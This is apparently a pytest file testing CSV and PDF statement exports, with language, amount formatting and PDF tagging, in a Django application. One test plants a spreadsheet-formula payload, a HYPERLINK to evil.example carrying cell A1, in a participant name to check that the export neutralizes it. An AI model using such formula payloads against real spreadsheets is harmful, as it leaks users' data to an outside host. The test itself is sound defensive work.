"""CSV and PDF exports of a statement, in the organization's working language."""

from __future__ import annotations

import csv
import io
import re
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.utils import translation
from django.utils.translation import gettext

from sentier.network.models import Organization
from sentier.paas.models import Placement, Statement
from sentier.paas.statements.actions import approve_statement
from sentier.paas.statements.computation import LINE_LABELS
from sentier.paas.statements.exports import statement_csv, statement_pdf, statement_pdf_html
from sentier.paas.tests.statement_factories import (
    approved_claim,
    generate,
    grant,
    months_ago,
    opex,
    place,
)
from sentier.participants.actions import update_participant_details


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def approved(personas: dict[str, Any], laval_participant: Any) -> Statement:
    grant(personas, opex(personas))
    placement = place(personas, laval_participant, opex(personas), months_ago(2))
    approved_claim(personas, placement, months_ago(1), amount_cents=4250)
    statement = generate(personas, opex(personas), months_ago(1))
    return approve_statement(actor=personas["admin"], statement=statement)


def _english(organization: Organization) -> None:
    organization.language = "en-ca"
    organization.save()


def test_csv_in_french(approved: Statement, laval_participant: Any) -> None:
    text = statement_csv(approved)
    assert text.startswith("\ufeff")
    rows = [row.split(";") for row in text[1:].strip().split("\r\n")]
    month = f"{months_ago(1):%Y-%m}"
    name = approved.organization.name
    number = laval_participant.file_number
    with translation.override("fr-ca"):
        allowance, transport, payment = (
            str(LINE_LABELS[kind]) for kind in ("allowance", "transport", "organization_payment")
        )
        total = gettext("Total")
    assert rows[1:4] == [
        [name, month, allowance, month, number, "Julie Lavoie", "", "173,00"],
        [name, month, transport, month, number, "Julie Lavoie", "", "42,50"],
        [name, month, payment, month, "", "", rows[3][6], "200,00"],
    ]
    assert rows[-1] == [name, month, total, "", "", "", "", "415,50"]
    assert len(rows) == 1 + 3 + 4


def test_csv_in_english(approved: Statement) -> None:
    _english(approved.organization)
    rows = statement_csv(Statement.objects.get(pk=approved.pk))[1:].strip().split("\r\n")
    assert rows[-1].split(",")[-1] == "415.50"
    # Labels follow the organization's language at export; a line's description keeps the
    # language it was generated in (the statement was generated when OPEX’82 worked in French).
    assert rows[3].split(",")[2] == "Payment to the organization"
    assert rows[0].split(",")[:3] == ["Organization", "Statement month", "Line"]


def _pdf_objects(pdf: bytes) -> bytes:
    """The PDF with its compressed streams inflated (no PDF reader is installed)."""
    inflated = [pdf]
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.DOTALL):
        try:
            inflated.append(zlib.decompress(stream))
        except zlib.error:
            continue
    return b"\n".join(inflated)


def test_pdf_opens_and_is_tagged_in_french(approved: Statement) -> None:
    pdf = statement_pdf(approved)
    assert pdf.startswith(b"%PDF-")
    assert pdf.rstrip().endswith(b"%%EOF")
    objects = _pdf_objects(pdf)
    assert b"/StructTreeRoot" in objects  # tagged PDF (PDF/UA-1)
    assert b"/Type /Page" in objects or b"/Type/Page" in objects
    assert b"(fr-CA)" in objects  # the document's language


def test_pdf_in_english_for_an_english_organization(approved: Statement) -> None:
    _english(approved.organization)
    objects = _pdf_objects(statement_pdf(Statement.objects.get(pk=approved.pk)))
    assert b"(en-CA)" in objects


def test_pdf_is_in_the_organization_language(approved: Statement) -> None:
    html = statement_pdf_html(approved)
    assert '<html lang="fr-CA">' in html
    assert "173,00\xa0$" in html
    _english(approved.organization)
    html = statement_pdf_html(Statement.objects.get(pk=approved.pk))
    assert '<html lang="en-CA">' in html
    assert "$173.00" in html


def test_the_placement_is_unchanged_by_exports(approved: Statement) -> None:
    before = list(Placement.objects.values())
    statement_csv(approved)
    statement_pdf(approved)
    assert list(Placement.objects.values()) == before


def test_csv_cells_never_run_as_formulas(personas: dict[str, Any], laval_participant: Any) -> None:
    """A name typed as a formula (the anonymous application lets anyone type one) is written as
    text; amounts stay numbers."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Julie")'
    update_participant_details(
        actor=personas["admin"], participant=laval_participant, changes={"first_name": formula}
    )
    grant(personas, opex(personas))
    placement = place(personas, laval_participant, opex(personas), months_ago(2))
    approved_claim(personas, placement, months_ago(1), amount_cents=4250)
    statement = generate(personas, opex(personas), months_ago(1))

    rows = list(csv.reader(io.StringIO(statement_csv(statement)[1:]), delimiter=";"))

    names = {row[5] for row in rows[1:] if row[5]}
    assert names == {f"'{formula} Lavoie"}
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@", "+"))]
    assert all(re.fullmatch(r"-?\d+,\d\d", row[7]) for row in rows[1:])
